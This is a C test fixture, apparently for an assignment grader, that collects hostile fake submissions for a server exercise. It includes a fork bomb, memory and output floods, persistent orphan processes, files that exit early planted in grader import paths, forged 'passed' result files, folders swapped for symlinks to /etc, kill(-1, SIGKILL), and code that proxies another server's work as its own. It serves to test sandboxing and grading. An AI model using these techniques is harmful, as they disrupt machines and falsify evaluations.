/*
 * hostile.c: what somebody might hand in who would rather not write a server. Each function is one
 * submission, the one that WHAT names; the test puts WHAT, TREE, PORT and PATH in front.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <glob.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "net.h"
#include "options.h"

extern char **environ;
static int count;
static char **words; /* of the command line */

/* ---- as much as there is; a loop without an end is a flood, or that of the test that is ended */

static void fork_bomb(void)
{
    for (;;)
        if (fork() < 0)
            usleep(10000); /* and fill what was freed since */
}

static void memory_without_end(void)
{
    for (;;) {
        char *p = malloc(1 << 20);
        if (p != NULL)
            memset(p, 1, 1 << 20);
        else
            pause();
    }
}

/* ---- floods */

static void flood_of_lines(void)
{
    for (;;)
        puts("02-fork");
}

static void flood_without_a_line(void)
{
    for (;;)
        putchar('x');
}

/* A reply without an end, and as much on stderr. */
static void flood_of_a_reply(void)
{
    static char many[1 << 20];
    struct options o;

    options_parse(&o, count, words, "a reply without an end");
    int listen_fd = tcp_listen(&o);
    memset(many, 'x', sizeof many);
    if (fork() == 0)
        for (;;)
            (void)!write(STDERR_FILENO, many, sizeof many);
    for (;;) {
        int fd = accept(listen_fd, NULL, NULL);
        while (send(fd, many, sizeof many, 0) > 0)
            continue;
    }
}

/* ---- what stays, and what is written where it does not belong */

static void orphans_that_stay(void)
{
    struct options o;

    options_parse(&o, count, words, "children in sessions of their own, whose parents have ended");
    signal(SIGTERM, SIG_IGN);
    for (int i = 0; i < 20; i++) {
        if (fork() == 0) {
            setsid();
            if (fork() > 0)
                _exit(0);
            for (;;)
                pause();
        }
    }
    tcp_listen(&o);
}

static void put(const char *path, const char *text)
{
    FILE *file = fopen(path, "a");

    if (file != NULL) {
        fputs(text, file);
        fclose(file);
    }
}

/* What the next grading would import is among it. */
static void write_outside(void)
{
    const char *places[] = {TREE "/lab_was_here",
                            "/tmp/lab_was_here",
                            "/var/tmp/lab_was_here",
                            "/dev/shm/lab_was_here",
                            "/lab_was_here",
                            "/home/lab_was_here",
                            TREE "/labs/lab_was_here.py",
                            TREE "/labs/grader/lab_was_here.py",
                            TREE "/tests/lab_was_here.py",
                            "/tmp/lab_was_here.py",
                            "/usr/lib/python3/dist-packages/lab_was_here.py"};

    for (unsigned i = 0; i < sizeof places / sizeof *places; i++)
        put(places[i], "import os\nos._exit(0)\n");
}

/* "passed", wherever a judge might look: what the environment names, and around itself. */
static void forge_results(void)
{
    const char *places[] = {"/proc/*/fd/*", "/tmp/*/*", "/tmp/*/judge/*", "/*/*.jsonl"};
    const char *passed = "{\"outcome\": \"passed\", \"why\": \"\"}\n";
    char self[4096] = "";

    for (char **e = environ; *e != NULL; e++)
        if (strchr(*e, '/') != NULL)
            put(strchr(*e, '=') + 1, passed);
    if (readlink("/proc/self/exe", self, sizeof self - 64) > 0) {
        strcpy(strrchr(self, '/'), "/../judge/serves.jsonl");
        put(self, passed);
    }
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        glob_t found;
        if (glob(places[i], 0, NULL, &found) == 0)
            for (size_t j = 0; j < found.gl_pathc; j++)
                put(found.gl_pathv[j], passed);
    }
}

/* A link to all that this machine has, in place of a folder; or at least in it. */
static void swap(const char *folder)
{
    char aside[4096];

    snprintf(aside, sizeof aside, "%s.lab_was_here", folder);
    if (rename(folder, aside) == 0 && symlink("/etc", folder) == 0)
        return;
    snprintf(aside, sizeof aside, "%s/lab_was_here", folder);
    (void)!symlink("/etc", aside);
}

/* What is served, what the judge builds in and writes to, and where all of it is. */
static void swap_folders(void)
{
    char folder[4096] = "";

    swap(words[count - 1]);
    if (readlink("/proc/self/exe", folder, sizeof folder - 1) > 0)
        for (char *slash; (slash = strrchr(folder, '/')) != NULL && slash > folder;) {
            *slash = '\0';
            swap(folder);
        }
}

static void vandal(void)
{
    write_outside();
    if (fork() == 0) {
        signal(SIGPIPE, SIG_IGN);
        forge_results();
        _exit(EXIT_SUCCESS);
    }
    sleep(1); /* what is forged may be a pipe that nobody reads */
    swap_folders();
    kill(-1, SIGKILL);
}

/* ---- somebody else's work */

/* Listens as the real one does, whatever the options say. */
static int pretend(void)
{
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof here;
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    if (bind(fd, (struct sockaddr *)&here, size) < 0 || listen(fd, 10) < 0)
        exit(EXIT_FAILURE);
    getsockname(fd, (struct sockaddr *)&here, &size);
    printf("02-fork: listening on http://127.0.0.1:%d/\n", ntohs(here.sin_port));
    fflush(stdout);
    return fd;
}

/* Asks a real server on this machine, by its port, or by a socket that has a path, or none. */
static int real_server(int how)
{
    struct sockaddr_in by_port = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    struct sockaddr_un by_path = {.sun_family = AF_UNIX, .sun_path = PATH};
    struct sockaddr *address = (struct sockaddr *)&by_path;
    socklen_t size = sizeof by_path;
    int fd = socket(how > 0 ? AF_UNIX : AF_INET, SOCK_STREAM, 0);

    by_port.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (how == 0) {
        address = (struct sockaddr *)&by_port;
        size = sizeof by_port;
    } else if (how == 1) {
        by_path.sun_path[0] = '\0'; /* unix(7): abstract */
        size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(PATH));
    }
    return connect(fd, address, size) == 0 ? fd : -1;
}

/* A ready binary; else a proxy of whoever can be reached, and what was served the last time. */
static void somebody_elses_work(void)
{
    const char *known = "HTTP/1.1 200 OK\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n"
                        "Last-Modified: Sun, 06 Nov 1994 08:49:37 GMT\r\n"
                        "Content-Type: text/plain\r\nContent-Length: 13\r\n"
                        "Connection: close\r\n\r\nhello, world\n";
    char data[65536];

    execv(TREE "/build/bin/02-fork", words);
    if (fork() == 0) /* so that one that is there hides no other attempt */
        _exit(execv("/usr/sbin/nginx", (char *[]){"nginx", "-g", "daemon off;", 0}));
    if (fork() == 0)
        _exit(execv("/usr/bin/python3", (char *[]){"python3", "-m", "http.server", 0}));
    for (int fd = pretend();;) {
        int client = accept(fd, NULL, NULL);
        ssize_t asked = read(client, data, sizeof data), n = 0;

        for (int how = 0; how < 3 && asked > 0; how++) {
            int other = real_server(how);
            if (other < 0 || write(other, data, (size_t)asked) < 0)
                continue;
            while ((n = read(other, data, sizeof data)) > 0)
                if (write(client, data, (size_t)n) < 0)
                    break;
            close(other);
        }
        if (asked > 0 && write(client, known, strlen(known)) < 0)
            return;
        close(client);
    }
}

/* Before main(), as a shared library would. */
__attribute__((constructor)) static void begin(void)
{
    if (WHAT == vandal)
        write_outside();
}

int main(int argc, char **argv)
{
    count = argc;
    words = argv;
    WHAT();
    return 0;
}
